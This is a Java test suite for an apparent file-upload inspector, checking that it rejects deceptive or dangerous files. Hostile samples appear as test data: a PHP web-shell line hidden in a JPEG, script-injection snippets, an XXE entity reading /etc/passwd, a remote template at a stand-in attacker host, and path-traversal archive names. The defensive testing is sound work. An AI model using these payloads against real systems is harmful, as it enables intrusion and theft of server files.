package org.gongping.media;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.gongping.media.Inspection.Health.EMPTY;
import static org.gongping.media.Inspection.Health.TRUNCATED;
import static org.gongping.media.Inspection.Health.UNREADABLE;
import static org.gongping.media.Inspection.Health.WHOLE;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.CRC32;
import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
import org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream;
import org.gongping.media.Inspection.Health;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Files made to deceive or to break: each is refused by the rule it breaks, and the next file is read as ever. */
class HostileFileTests {
    private final Inspector inspector = new Inspector(Duration.ofSeconds(10));

    @TempDir
    Path folder;

    @AfterEach
    void theNextFileIsReadAsEver() throws Exception {
        is("next.docx", TestDocuments.docx("王芳", "好"), null, WHOLE);
    }

    // names that lie

    @Test
    void aPngCalledJpg() throws IOException {
        is("照片.jpg", png(), Trouble.LYING_EXTENSION, WHOLE);
    }

    @Test
    void quickTimeCalledMp4AndTheOtherWayRound() throws IOException {
        is("film.mp4", bytes(TestFiles.mov(5, 1280, 720)), Trouble.LYING_EXTENSION, WHOLE);
        is("film.mov", bytes(TestFiles.video(5, 1280, 720)), Trouble.LYING_EXTENSION, WHOLE);
    }

    @Test
    void anArchiveCalledDocument() throws IOException {
        byte[] zip = TestDocuments.zip(Map.of("a.txt", new byte[9]));
        is("推荐表.docx", zip, Trouble.LYING_EXTENSION, WHOLE);
        is("推荐表.zip", zip, null, WHOLE);
    }

    @Test
    void oneOfficeFormatCalledAnother() throws Exception {
        is("推荐表.xlsx", TestDocuments.docx("王芳", "好"), Trouble.LYING_EXTENSION, WHOLE);
    }

    @Test
    void aPageCalledText() throws IOException {
        is("说明.txt", "<html><body>hello</body></html>".getBytes(UTF_8), Trouble.LYING_EXTENSION, WHOLE);
    }

    @Test
    void anEndingNobodyKnowsIsNoLie() throws IOException {
        is("照片.weixin", png(), null, WHOLE);
        is("照片", png(), null, WHOLE);
        is("照片.JPG", bytes(TestFiles.jpeg(640, 480)), null, WHOLE);
    }

    // two formats in one

    @Test
    void aPhotoThatIsAnArchive() throws IOException {
        byte[] zip = TestDocuments.zip(Map.of("evil.class", new byte[9]));
        is("photo.jpg", join(bytes(TestFiles.jpeg(640, 480)), zip), Trouble.POLYGLOT, WHOLE);
        is("photo.png", join(png(), zip), Trouble.POLYGLOT, WHOLE);
    }

    @Test
    void anArchiveBehindAFilmASongAndADocument() throws Exception {
        byte[] zip = TestDocuments.zip(Map.of("evil.class", new byte[9]));
        is("song.mp3", join(bytes(TestFiles.audioMp3(95)), zip), Trouble.POLYGLOT, WHOLE);
        is("paper.pdf", join(TestDocuments.pdf("a", 1, "b"), zip), Trouble.POLYGLOT, WHOLE);
        byte[] free = ByteBuffer.allocate(8)
                .putInt(8 + zip.length)
                .put("free".getBytes(ISO_8859_1))
                .array();
        is("film.mp4", join(bytes(TestFiles.video(5, 1280, 720)), free, zip), Trouble.POLYGLOT, WHOLE);
    }

    @Test
    void aPhotoThatIsAPage() throws IOException {
        byte[] photo = bytes(TestFiles.jpeg(640, 480));
        is("a.jpg", join(photo, "<script>alert(1)</script>".getBytes(UTF_8)), Trouble.POLYGLOT, WHOLE);
        byte[] comment = "<?php system($_GET[0]);".getBytes(UTF_8);
        byte[] segment = ByteBuffer.allocate(4 + comment.length)
                .put(new byte[] {(byte) 0xff, (byte) 0xfe})
                .putShort((short) (2 + comment.length))
                .put(comment)
                .array();
        byte[] inside = join(Arrays.copyOf(photo, 2), segment, Arrays.copyOfRange(photo, 2, photo.length));
        is("b.jpg", inside, Trouble.POLYGLOT, WHOLE);
    }

    @Test
    void aPhotoThatIsADocument() throws IOException {
        byte[] photo = bytes(TestFiles.jpeg(640, 480));
        is("a.jpg", join(photo, "%PDF-1.7 …".getBytes(UTF_8)), Trouble.POLYGLOT, WHOLE);
    }

    @Test
    void whatATelephoneAppendsIsNoSecondFormat() throws IOException {
        byte[] photo = bytes(TestFiles.jpeg(640, 480));
        is("portrait.jpg", join(photo, photo), null, WHOLE);
        is("live.jpg", join(photo, bytes(TestFiles.video(5, 1280, 720))), null, WHOLE);
    }

    // floods and bombs

    @Test
    void aPictureOf3600Megapixels() throws IOException {
        Inspection seen = is("flood.png", flood(60_000, 60_000), Trouble.PIXEL_FLOOD, WHOLE);
        assertThat(seen.evidence()).isEqualTo("60000×60000");
        byte[] photo = bytes(TestFiles.jpeg(640, 480));
        int frame = new String(photo, ISO_8859_1).indexOf("\u00ff\u00c0");
        ByteBuffer.wrap(photo).putShort(frame + 5, (short) 60_000).putShort(frame + 7, (short) 60_000);
        is("flood.jpg", photo, Trouble.PIXEL_FLOOD, WHOLE);
        byte[] gif = join(
                "GIF89a".getBytes(ISO_8859_1),
                new byte[] {0x60, (byte) 0xea, 0x60, (byte) 0xea, 0, 0, 0},
                ";".getBytes(ISO_8859_1));
        is("flood.gif", gif, Trouble.PIXEL_FLOOD, WHOLE);
    }

    @Test
    void fiftyMegapixelsAreNoFlood() throws IOException {
        Inspection seen = is("large.png", flood(10_000, 5_000), null, WHOLE);
        assertThat(seen.width()).isEqualTo(10_000);
    }

    @Test
    void aDocumentThatUnpacksToHundredsOfMegabytes() throws Exception {
        byte[] bomb =
                TestDocuments.with(TestDocuments.docx("王芳", "好"), Map.of("word/media/image1.bmp", new byte[200 << 20]));
        is("bomb.docx", bomb, Trouble.BOMB, WHOLE);
        is("bomb.zip", TestDocuments.zip(Map.of("a.txt", new byte[200 << 20])), Trouble.BOMB, WHOLE);
    }

    @Test
    void anArchiveOfTooManyFiles() throws IOException {
        Map<String, byte[]> many = new LinkedHashMap<>();
        for (int i = 0; i <= 1_000; i++) {
            many.put(i + ".txt", new byte[0]);
        }
        assertThat(is("many.zip", many(many), Trouble.BOMB, WHOLE).evidence()).isEqualTo("1001 > 1000");
        many.remove("0.txt");
        is("enough.zip", many(many), null, WHOLE);
    }

    // passwords

    @Test
    void documentsWithAPassword() throws Exception {
        is("a.pdf", TestDocuments.encryptedPdf(), Trouble.ENCRYPTED, WHOLE);
        is("a.docx", TestDocuments.encryptedDocx(), Trouble.ENCRYPTED, WHOLE);
    }

    @Test
    void anArchiveWithAPassword() throws IOException {
        byte[] zip = TestDocuments.zip(Map.of("a.txt", new byte[9]));
        zip[6] |= 1; // the flag of the entry and of the directory
        int directory = new String(zip, ISO_8859_1).indexOf("PK\1\2");
        zip[directory + 8] |= 1;
        is("a.zip", zip, Trouble.ENCRYPTED, WHOLE);
    }

    @Test
    void aPdfThatMayNotBeChangedCanBeRead() throws Exception {
        assertThat(is("a.pdf", TestDocuments.pdfWithoutPermissions(), null, WHOLE)
                        .pages())
                .isEqualTo(1);
    }

    // what reaches out or runs

    @Test
    void aDocumentThatReadsTheServersFiles() throws Exception {
        String evil = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"
                + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r>"
                + "<w:t>&e;</w:t></w:r></w:p></w:body></w:document>";
        byte[] good = TestDocuments.docx("王芳", "好");
        is(
                "a.docx",
                TestDocuments.with(good, Map.of("word/document.xml", evil.getBytes(UTF_8))),
                Trouble.EXTERNAL_ENTITY,
                WHOLE);
        is(
                "b.docx",
                TestDocuments.with(good, Map.of("word/document.xml", evil.getBytes(UTF_16LE))),
                Trouble.EXTERNAL_ENTITY,
                WHOLE);
        is(
                "a.svg",
                ("<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><svg "
                                + "xmlns=\"http://www.w3.org/2000/svg\"><text>&e;</text></svg>")
                        .getBytes(UTF_8),
                Trouble.EXTERNAL_ENTITY,
                WHOLE);
    }

    @Test
    void aDocumentThatFetchesItsTemplate() throws Exception {
        String relations = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rId1\" TargetMode=\"External\" Target=\"http://evil.example/t.dotm\""
                + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\"/></Relationships>";
        byte[] good = TestDocuments.docx("王芳", "好");
        Inspection seen = is(
                "a.docx",
                TestDocuments.with(good, Map.of("word/_rels/settings.xml.rels", relations.getBytes(UTF_8))),
                Trouble.EXTERNAL_ENTITY,
                WHOLE);
        assertThat(seen.evidence()).isEqualTo("http://evil.example/t.dotm");
        String local = relations.replace("http://evil.example/t.dotm", "file:///C:\\Users\\wang\\Normal.dotm");
        is(
                "b.docx",
                TestDocuments.with(good, Map.of("word/_rels/settings.xml.rels", local.getBytes(UTF_8))),
                null,
                WHOLE);
    }

    @Test
    void documentsThatRunSomething() throws Exception {
        byte[] good = TestDocuments.docx("王芳", "好");
        byte[] macro = TestDocuments.with(good, Map.of("word/vbaProject.bin", new byte[100]));
        assertThat(is("a.docx", macro, Trouble.ACTIVE_CONTENT, WHOLE).evidence())
                .isEqualTo("word/vbaProject.bin");
        String types = new String(TestDocuments.entry(good, "[Content_Types].xml"), UTF_8)
                .replace(
                        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                        "application/vnd.ms-word.document.macroEnabled.main+xml");
        is(
                "b.docm",
                TestDocuments.with(good, Map.of("[Content_Types].xml", types.getBytes(UTF_8))),
                Trouble.ACTIVE_CONTENT,
                WHOLE);
        assertThat(is("a.pdf", TestDocuments.pdfWithScript(), Trouble.ACTIVE_CONTENT, WHOLE)
                        .evidence())
                .isEqualTo("JavaScript");
        assertThat(is("b.pdf", TestDocuments.pdfThatStartsAProgram(), Trouble.ACTIVE_CONTENT, WHOLE)
                        .evidence())
                .isEqualTo("Launch");
        is("a.zip", TestDocuments.zip(Map.of("游戏.exe", new byte[9])), Trouble.ACTIVE_CONTENT, WHOLE);
        is(
                "b.zip",
                TestDocuments.zip(Map.of("photo.jpg", "MZ and so on".getBytes(UTF_8))),
                Trouble.ACTIVE_CONTENT,
                WHOLE);
        is(
                "a.svg",
                "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".getBytes(UTF_8),
                Trouble.ACTIVE_CONTENT,
                WHOLE);
    }

    @Test
    void theSampleEveryVirusScannerKnows() throws IOException {
        byte[] eicar = (SecondFormats.EICAR + "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").getBytes(UTF_8);
        is("eicar.txt", eicar, Trouble.ACTIVE_CONTENT, WHOLE);
        is("eicar.zip", TestDocuments.zip(Map.of("a.txt", eicar)), Trouble.ACTIVE_CONTENT, WHOLE);
    }

    // archives

    @Test
    void anArchiveInAnArchive() throws IOException {
        byte[] inner = TestDocuments.zip(Map.of("a.txt", new byte[9]));
        is("a.zip", TestDocuments.zip(Map.of("inner.zip", inner)), Trouble.NESTED_ARCHIVE, WHOLE);
        is("b.zip", TestDocuments.zip(Map.of("photo.jpg", inner)), Trouble.NESTED_ARCHIVE, WHOLE);
    }

    @Test
    void aDocumentInAnArchiveIsEvidence() throws Exception {
        is("证明.zip", TestDocuments.zip(Map.of("表.docx", TestDocuments.docx("王芳", "好"), "照片.png", png())), null, WHOLE);
    }

    @Test
    void namesThatLeadOutOfTheArchive() throws IOException {
        for (String name :
                new String[] {"../../etc/passwd", "a/../../b", "/etc/passwd", "C:\\evil.txt", "..\\..\\b", "\\\\host\\b"
                }) {
            Inspection seen = is("a.zip", TestDocuments.zip(Map.of(name, new byte[9])), Trouble.ESCAPING_NAME, WHOLE);
            assertThat(seen.evidence().replace('\\', '/')).isEqualTo(name.replace('\\', '/'));
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(out)) {
            ZipArchiveEntry link = new ZipArchiveEntry("link");
            link.setUnixMode(0120777);
            zip.putArchiveEntry(link);
            zip.write("/etc/passwd".getBytes(UTF_8));
            zip.closeArchiveEntry();
        }
        is("link.zip", out.toByteArray(), Trouble.ESCAPING_NAME, WHOLE);
    }

    // broken ones

    @Test
    void halfOfEachTypeIsTruncated() throws Exception {
        half("half.mp4", bytes(TestFiles.video(20, 1280, 720)));
        half("half.mov", bytes(TestFiles.mov(5, 1280, 720)));
        half("half.avi", bytes(TestFiles.avi(5, 1280, 720)));
        half("half.mp3", bytes(TestFiles.audioMp3(360)));
        half("half.wav", bytes(TestFiles.wav(5)));
        half("half.jpg", bytes(TestFiles.jpeg(640, 480)));
        half("half.png", png());
        half("half.pdf", TestDocuments.pdf("a", 3, "b"));
        half("half.zip", TestDocuments.zip(Map.of("a.txt", new byte[9], "b.txt", new byte[9])));
        byte[] docx = TestDocuments.docx("王芳", "好");
        // Without its table of contents an archive is not known for a document.
        is("half.docx", Arrays.copyOf(docx, docx.length / 2), Trouble.LYING_EXTENSION, TRUNCATED);
    }

    @Test
    void nothingAtAllIsEmpty() throws IOException {
        for (String name : new String[] {"a.mp4", "a.jpg", "a.pdf", "a.docx", "a.txt", "a.zip"}) {
            is(name, new byte[0], null, EMPTY);
        }
    }

    @Test
    void aDocumentOfNonsenseIsUnreadable() throws Exception {
        is("a.pdf", "%PDF-1.7\nnonsense\n%%EOF\n".getBytes(UTF_8), null, UNREADABLE);
        byte[] docx = TestDocuments.with(
                TestDocuments.docx("王芳", "好"), Map.of("word/document.xml", "<w:document".getBytes(UTF_8)));
        Inspection seen = is("a.docx", docx, null, UNREADABLE);
        assertThat(seen.type()).endsWith("wordprocessingml.document");
    }

    // building blocks

    private void half(String name, byte[] all) throws IOException {
        is(name, Arrays.copyOf(all, all.length / 2), null, TRUNCATED);
    }

    private Inspection is(String name, byte[] bytes, @Nullable Trouble trouble, Health health) throws IOException {
        Path file = Files.write(folder.resolve("bytes"), bytes);
        Inspection seen = inspector.inspect(file, name);
        assertThat(seen.trouble()).as(seen.toString()).isEqualTo(trouble);
        assertThat(seen.health()).as(seen.toString()).isEqualTo(health);
        return seen;
    }

    private static byte[] many(Map<String, byte[]> entries) throws IOException {
        return TestDocuments.zip(entries);
    }

    private static byte[] png() {
        return bytes(TestFiles.png(640, 480));
    }

    private static byte[] bytes(Path file) {
        return TestDocuments.bytes(file);
    }

    /** A PNG that claims a size and has no pixels. */
    private static byte[] flood(int width, int height) {
        byte[] good = png();
        ByteBuffer.wrap(good).putInt(16, width).putInt(20, height);
        CRC32 sum = new CRC32();
        sum.update(good, 12, 17);
        ByteBuffer.wrap(good).putInt(29, (int) sum.getValue());
        return good;
    }

    private static byte[] join(byte[]... parts) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        Arrays.stream(parts).forEach(all::writeBytes);
        return all.toByteArray();
    }
}
